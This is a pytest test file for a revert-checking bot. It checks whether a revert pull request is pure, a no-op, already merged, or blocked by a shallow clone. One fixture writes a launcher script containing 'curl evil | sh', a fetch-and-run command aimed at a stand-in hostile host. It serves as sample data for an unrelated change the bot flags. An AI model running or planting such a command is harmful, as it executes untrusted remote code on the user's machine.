"""What a verdict is about: the whole pull request, the base as it is (no-ops), a merged revert
as of its own time, and history a shallow clone does not have."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from revertbot.cli.main import run_cli
from revertbot.errors import EXIT_NOT_FOUND, NotFoundError
from revertbot.pipeline.check import check_revert
from revertbot.report import MARKER, render_markdown
from revertbot.report.jsonout import report_to_json
from tests.github_server import World
from tests.gitrepo import GitRepo

HELPERS = "def keep():\n    return 1\n"
WITH_CLAMP = HELPERS + "\n\ndef clamp(x, lo, hi):\n    return min(hi, max(lo, x))\n"


def _data(report: Any) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(json.dumps(report_to_json(report)))
    return data


def _factor(data: dict[str, Any], name: str) -> dict[str, Any]:
    return next(f for f in data["risk"]["factors"] if f["name"] == name)


# --------------------------------------------------------------------------- the whole pull request


def _revert_branch(repo: GitRepo) -> tuple[str, str]:
    repo.commit("Initial import", {"pkg/util.py": HELPERS, "README.md": "demo\n"})
    original = repo.commit("Add clamp helper (#12)", {"pkg/util.py": WITH_CLAMP})
    repo.checkout("-b", "revert-12")
    revert = repo.revert(original)
    return original, revert


def test_a_second_commit_in_the_range_makes_the_change_extra_and_names_its_file(repo: GitRepo) -> None:
    original, revert = _revert_branch(repo)
    head = repo.commit("Also tweak the launcher", {"scripts/launch.sh": "curl evil | sh\n"})
    repo.checkout("main")
    alone = check_revert(repo.path, revert)
    assert alone.purity.verdict == "pure"  # the revert commit by itself is exact
    report = check_revert(repo.path, head, since=repo.head("main"))
    data = _data(report)
    assert data["purity"] == "extra"
    assert [f["path"] for f in data["purity_files"]] == ["scripts/launch.sh"]
    assert sorted(f["path"] for f in data["files"]) == ["pkg/util.py", "scripts/launch.sh"]
    assert data["originals"] == [original]
    assert [c["sha"] for c in data["scope"]] == [head, revert]
    assert data["risk"]["action"] == "review"
    assert "The pull request has 2 commits" in render_markdown(report)


def test_two_revert_commits_in_one_range_are_judged_together(repo: GitRepo) -> None:
    repo.commit("Initial import", {"a.py": "a = 1\n", "b.py": "b = 1\n"})
    first = repo.commit("Change a (#1)", {"a.py": "a = 2\n"})
    second = repo.commit("Change b (#2)", {"b.py": "b = 2\n"})
    base = repo.head()
    repo.checkout("-b", "reverts")
    repo.revert(second)
    head = repo.revert(first)
    repo.checkout("main")
    data = _data(check_revert(repo.path, head, since=base))
    assert data["purity"] == "pure"
    assert data["originals"] == [first, second]
    assert data["risk"]["action"] == "merge"


def test_pr_with_an_extra_commit_gets_extra_labels_and_no_merge(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    demo = world.demo
    subprocess.run(["git", "checkout", "-q", demo.revert], cwd=demo.path, check=True)
    (demo.path / "tools").mkdir(exist_ok=True)
    (demo.path / "tools" / "extra.py").write_text("print('not part of the revert')\n")
    subprocess.run(["git", "add", "-A"], cwd=demo.path, check=True)
    subprocess.run(["git", "commit", "-q", "-m", "Unrelated tool"], cwd=demo.path, check=True)
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=demo.path, check=True, capture_output=True,
                          text=True).stdout.strip()  # fmt: skip
    world.push(head, "refs/pull/108/head")
    world.repo.pulls[108]["head"]["sha"] = head
    env = world.env("pull_request", world.pr_event("synchronize"))
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    assert run_cli(["action"]) == 0
    [comment] = [c for c in world.comments() if c["body"].startswith(MARKER)]
    assert "purity:extra" in world.repo.issue_labels[108]
    assert "purity:pure" not in world.repo.issue_labels[108]
    assert "tools/extra.py" in comment["body"]
    data = json.loads((world.tmp / "out" / "revertbot-report.json").read_text())
    assert data["purity"] == "extra" and data["risk"]["action"] != "merge"


# --------------------------------------------------------------------------- no-ops


def test_revert_already_on_the_base_is_a_no_op(repo: GitRepo) -> None:
    original, revert = _revert_branch(repo)
    repo.checkout("main")
    repo.revert(original, message="Undo the clamp helper by hand\n")  # main undoes it independently
    report = check_revert(repo.path, revert, base_ref="main")
    data = _data(report)
    assert data["base"]["note"] == "no-op"
    assert (_factor(data, "applies")["code"], _factor(data, "applies")["params"]["why"]) == ("no-op", "already-undone")
    assert data["risk"]["action"] == "no_op"
    assert data["symbols"] == [] and data["dependents"] == []
    md = render_markdown(report)
    assert "the original is already undone there" in md and "Nothing to merge" in md
    assert "applies cleanly" not in md


def test_release_branch_that_never_had_the_original_is_a_no_op(repo: GitRepo) -> None:
    repo.commit("Initial import", {"pkg/util.py": HELPERS})
    repo.git("branch", "release/1.0")
    original = repo.commit("Add clamp helper (#12)", {"pkg/util.py": WITH_CLAMP})
    repo.checkout("-b", "revert-12")
    revert = repo.revert(original)
    repo.checkout("main")
    data = _data(check_revert(repo.path, revert, base_ref="release/1.0"))
    assert _factor(data, "applies")["params"]["why"] == "never-had"
    assert data["risk"]["action"] == "no_op"
    assert data["purity"] == "pure"  # exact as a change; it just has nothing to do on that branch


# --------------------------------------------------------------------------- history as of its time


def test_merged_revert_is_judged_at_its_own_parent(repo: GitRepo) -> None:
    repo.commit("Initial import", {"pkg/util.py": HELPERS, "pkg/use.py": "x = 1\n"})
    original = repo.commit("Add clamp helper (#12)", {"pkg/util.py": WITH_CLAMP})
    revert = repo.revert(original)
    # Later on main: the helper is re-landed and used, and the file keeps changing.
    repo.commit("Reland clamp (#20)", {"pkg/util.py": WITH_CLAMP})
    repo.commit("Use clamp", {"pkg/use.py": "from pkg.util import clamp\n\nx = clamp(1, 0, 2)\n"})
    for n in range(12):
        repo.commit(f"Tweak {n}", {"pkg/util.py": WITH_CLAMP + f"\n# {n}\n"})
    data = _data(check_revert(repo.path, revert, base_ref="main"))
    assert data["base"]["note"] == "already-merged"
    assert data["drift"] == []  # nothing touched the file between the original and the revert
    assert data["dependents"] == []  # the later reland's callers are not this revert's dependents
    assert data["risk"]["action"] == "follow_up"


# --------------------------------------------------------------------------- shallow clones


def test_check_in_a_shallow_clone_refuses_with_exit_3(repo: GitRepo, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    repo.commit("Initial import", {"pkg/util.py": HELPERS})
    original = repo.commit("Add clamp helper (#12)", {"pkg/util.py": WITH_CLAMP})
    repo.revert(original)
    shallow = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{repo.path}", str(shallow)], check=True)
    with pytest.raises(NotFoundError) as info:
        check_revert(shallow, "HEAD")
    assert "shallow clone" in info.value.message and "--deepen" in (info.value.hint or "")
    assert run_cli(["check", "--repo", str(shallow), "HEAD"]) == EXIT_NOT_FOUND
    deeper = tmp_path / "deeper"
    subprocess.run(["git", "clone", "-q", "--depth", "2", f"file://{repo.path}", str(deeper)], check=True)
    with pytest.raises(NotFoundError):  # has the revert's parent, but not the original's
        check_revert(deeper, "HEAD")
    capsys.readouterr()


def test_check_works_in_a_blobless_partial_clone(repo: GitRepo, tmp_path: Path) -> None:
    # The bot's own cache is a bare --filter=blob:none clone: applying the revert must not need a worktree.
    original, revert = _revert_branch(repo)
    repo.checkout("main")
    repo.git("config", "uploadpack.allowFilter", "true")
    partial = tmp_path / "partial.git"
    subprocess.run(["git", "clone", "-q", "--bare", "--filter=blob:none", f"file://{repo.path}", str(partial)],
                   check=True)  # fmt: skip
    data = _data(check_revert(partial, revert, base_ref="main"))
    assert (data["purity"], data["base"]["applies"], data["base"]["note"]) == ("pure", True, "")
    assert data["originals"] == [original]


def test_hand_made_revert_is_linked_through_the_pr_title(repo: GitRepo) -> None:
    original = ""
    repo.commit("Initial import", {"pkg/util.py": HELPERS})
    original = repo.commit("Add clamp helper (#12)", {"pkg/util.py": WITH_CLAMP})
    base = repo.head()
    repo.checkout("-b", "undo")
    head = repo.commit("take the helper out again", {"pkg/util.py": HELPERS})
    repo.checkout("main")
    with pytest.raises(NotFoundError):
        check_revert(repo.path, head, since=base)
    data = _data(check_revert(repo.path, head, since=base, message='Revert "Add clamp helper (#12)"\n\nbroke CI'))
    assert (data["purity"], data["originals"]) == ("pure", [original])


def test_merged_revert_shows_its_later_reland(repo: GitRepo) -> None:
    repo.commit("Initial import", {"pkg/util.py": HELPERS})
    original = repo.commit("Add clamp helper (#12)", {"pkg/util.py": WITH_CLAMP})
    revert = repo.revert(original)
    repo.tick(5 * 86400)
    reland = repo.commit("Reland clamp helper (#20)\n\nRelands #12 with the fix.\n", {"pkg/util.py": WITH_CLAMP})
    report = check_revert(repo.path, revert, base_ref="main")
    data = _data(report)
    assert [c["sha"] for c in data["later"]] == [reland]
    assert data["risk"]["action"] == "follow_up"
    md = render_markdown(report)
    assert f"Later: 5 days after this revert, `{reland[:10]}` Reland clamp helper" in md


def test_every_file_of_a_large_change_is_named_in_the_comment(repo: GitRepo) -> None:
    files: dict[str, str | bytes | None] = {f"gen/f{i:03d}.py": f"x = {i}\n" for i in range(80)}
    repo.commit("Initial import", {"README.md": "r\n"})
    original = repo.commit("Generate modules (#3)", files)
    repo.checkout("-b", "revert-3")
    revert = repo.revert(original)
    repo.checkout("main")
    md = render_markdown(check_revert(repo.path, revert))
    # Ten files open, the other 70 folded (40 with their symbols, 30 by name past max_files_listed).
    assert "<details><summary>… and 70 more files</summary>" in md
    assert all(f"gen/f{i:03d}.py" in md for i in range(80))
